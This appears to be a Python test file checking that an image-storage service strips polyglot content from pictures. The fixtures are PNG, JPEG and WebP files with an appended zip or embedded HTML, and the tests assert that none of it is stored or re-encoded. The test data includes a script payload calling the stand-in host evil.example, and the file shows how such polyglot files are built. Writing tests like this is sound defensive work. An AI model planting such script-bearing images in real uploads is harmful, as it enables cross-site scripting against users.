"""Row 15 of the attack table, files of two kinds: what is stored of a picture holds nothing that another program would
run or unpack."""

import io
import zipfile
from pathlib import Path

import pytest
from PIL import Image

from agents.generator.images import png_writer
from agents.shared.picture import decode
from protocol.errors import AcpError
from tests.storage.making import DELIVERY, Silent, png, storage_with, store_image

SCRIPT = b"<html><script>fetch('//evil.example')</script></html>"


def _zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("run.sh", "echo run")
    return out.getvalue()


def _picture(kind: str) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (16, 12), "teal").save(out, kind)
    return out.getvalue()


def _jpeg_with_a_comment() -> bytes:
    whole = _picture("JPEG")
    return whole[:2] + b"\xff\xfe" + (len(SCRIPT) + 2).to_bytes(2, "big") + SCRIPT + whole[2:]


POLYGLOTS: dict[str, tuple[bytes, bytes]] = {
    "a PNG that is an archive": (png() + _zip(), b"PK\x03\x04"),
    "a PNG that is a page": (png() + SCRIPT, b"<script>"),
    "a JPEG that is a page": (_jpeg_with_a_comment(), b"<script>"),
    "a JPEG that is an archive": (_picture("JPEG") + _zip(), b"PK\x03\x04"),
    "a WebP that is a script": (_picture("WEBP") + SCRIPT, b"<script>"),
}
"""What it is -> (the file, what of it must not be stored)."""


@pytest.mark.parametrize("what", [*POLYGLOTS])
async def test_storage_files_nothing_of_the_other_kind(what: str, tmp_path: Path) -> None:
    """Row 15."""
    data, mark = POLYGLOTS[what]
    assert mark in data
    storage = await storage_with(tmp_path, data)
    async with storage.running(Silent()):
        try:
            await storage.handle(store_image(data=data), DELIVERY)
        except AcpError:
            assert not what.startswith("a PNG")  # storage files PNGs, and refuses the others
    filed = [file for file in (tmp_path / "pictures").rglob("*") if file.is_file()]

    assert any(file.suffix == ".png" for file in filed) == what.startswith("a PNG")
    assert [file.name for file in filed if mark in file.read_bytes()] == []


@pytest.mark.parametrize("what", [*POLYGLOTS])
def test_what_is_made_from_a_picture_is_made_from_its_pixels_alone(what: str) -> None:
    """Row 15."""
    data, mark = POLYGLOTS[what]

    written = png_writer.encode(decode(data).rgb)

    assert mark not in written
    assert not zipfile.is_zipfile(io.BytesIO(written))
